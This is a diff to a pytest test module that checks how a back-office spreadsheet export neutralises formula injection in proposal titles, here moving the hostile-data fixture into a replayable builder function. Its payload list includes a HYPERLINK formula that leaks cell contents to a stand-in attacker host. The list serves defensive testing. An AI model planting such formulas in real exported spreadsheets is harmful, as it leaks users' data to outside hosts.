@@ -12,6 +12,7 @@ import pytest
 from proposals.spreadsheet import neutralise, unneutralise
 from tests.backoffice.helpers import export, import_and_confirm
 from tests.factory import make_axis, make_proposal, make_review, set_status
+from tests.snapshots import replayed
 
 PAYLOADS = [
     '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez ici")',
@@ -23,13 +24,17 @@ PAYLOADS = [
 AXIS_NAME = "=1+1 axe"
 
 
-@pytest.fixture
-def hostile_titles(db):
+def build_hostile_titles():
     axis = make_axis(slug="ecologique", name=AXIS_NAME)
     for index, title in enumerate(PAYLOADS, start=1):
         proposal = make_proposal(axis, key=f"hostile-{index}", title=title, number=index, order=index)
         set_status(proposal, 2025, "implemented")
     make_review(2025)
+
+
+@pytest.fixture
+def hostile_titles(db):
+    replayed(build_hostile_titles)
 
 
 def _csv_rows(content: bytes) -> list[dict]:
